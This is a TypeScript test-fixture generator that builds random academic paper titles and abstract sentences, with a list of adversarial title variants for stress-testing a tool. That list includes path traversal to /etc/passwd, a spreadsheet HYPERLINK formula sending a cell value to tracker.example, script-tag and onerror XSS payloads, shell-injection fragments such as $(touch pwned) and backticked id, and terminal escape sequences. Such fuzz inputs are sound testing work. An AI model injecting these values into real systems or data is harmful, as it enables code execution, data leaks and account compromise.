import type { Dice } from './dice.ts';
import { METHODS, QUALITIES, SETTINGS, THINGS, VERBS } from './words.ts';

const capital = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1);

/** An ordinary title: English words, 8 to 16 of them. */
export function ordinaryTitle(dice: Dice): string {
  const [first, second] = dice.shuffle(QUALITIES.slice());
  const thing = dice.pick(THINGS);
  const other = dice.pick(THINGS);
  const setting = dice.pick(SETTINGS);
  const shapes = [
    `${first} ${thing} and ${second} ${other} in ${setting}: ${dice.pick(METHODS)}`,
    `${first} ${thing} of ${second} ${other} across ${setting}`,
    `how ${first} ${thing} ${dice.pick(VERBS)} ${second} ${other} in ${setting}`,
    `${second} ${other} under ${first} ${thing}: ${dice.pick(METHODS)} in ${setting}`,
    `on the role of ${first} ${thing} for ${second} ${other} in ${setting}`,
  ];
  return capital(dice.pick(shapes));
}

type HostileTitle = (title: string) => string | null;

/**
 * Titles as they do occur, or as somebody would write them to break a tool: each keeps the ordinary words, so that the
 * paper can still be told from another.
 */
const HOSTILE_TITLES: readonly HostileTitle[] = [
  (title) => `Input/output and/or ${title} \\ a/b test`,
  (title) => `"${title}": the 'so-called' “effect” of \`quotes\``,
  (title) =>
    `${title}; ${title.toLowerCase()}; ${title.toUpperCase()}; ${title} — and so on, at length`.repeat(2),
  (title) => `مقدمة في علم الأحياء الجزيئي \u202e${title}\u202c`,
  (title) => `🧬 ${title} 👩‍🔬🇺🇳 ☢️`,
  (title) => `${title}\u0007 \u001b[31mred\u001b[0m \u001b]52;c;AAAA\u0007 \u0000\r\n{"level":"info"}`,
  (title) => `../../../../etc/passwd ${title}`,
  (title) => `=HYPERLINK("http://tracker.example/?x="&A1,"${title}")`,
  (title) => `<i>In vitro</i> ${title} <script>alert(1)</script><img src=x onerror=alert(2)>`,
  (title) => `Über die Größe der Moleküle: ${title}, Ångström & naïveté`.normalize('NFD'),
  (title) => `深層学習による自然言語処理の研究 ${title} 中文摘要`,
  () => null,
  (title) => `CON.pdf NUL:${title}...  `,
  (title) => `-rf ~root $(touch pwned) \`id\` %00%2e%2e%2f ${title} | more`,
  (title) => `\ufeff\u200b${title}\u2028\u2029 zero\u200dwidth`,
  () => '???',
];

/** How many hostile titles there are; a world of a few hundred works has each of them. */
export const HOSTILE_TITLE_COUNT = HOSTILE_TITLES.length;

export const hostileTitle = (kind: number, title: string): string | null =>
  HOSTILE_TITLES[kind % HOSTILE_TITLES.length]?.(title) ?? null;

/** A sentence of prose for abstracts and bodies. */
function sentence(dice: Dice): string {
  const shapes = [
    `We show that ${dice.pick(QUALITIES)} ${dice.pick(THINGS)} ${dice.pick(VERBS)} ${dice.pick(QUALITIES)} ${dice.pick(THINGS)} in ${dice.pick(SETTINGS)}.`,
    `In ${dice.pick(SETTINGS)}, the ${dice.pick(QUALITIES)} ${dice.pick(THINGS)} changed by ${dice.int(2, 94)} percent over ${dice.int(2, 40)} repeated observations.`,
    `Earlier work on ${dice.pick(THINGS)} left open whether ${dice.pick(QUALITIES)} ${dice.pick(THINGS)} can be separated from ${dice.pick(THINGS)}.`,
    `The estimate remains ${dice.pick(QUALITIES)} when ${dice.pick(THINGS)} and ${dice.pick(THINGS)} are measured together (n = ${dice.int(12, 4800)}).`,
    `Taken together, these findings suggest that ${dice.pick(THINGS)} should be read as ${dice.pick(QUALITIES)} rather than ${dice.pick(QUALITIES)}.`,
  ];
  return dice.pick(shapes);
}

export const paragraph = (dice: Dice, sentences: number): string =>
  Array.from({ length: sentences }, () => sentence(dice)).join(' ');
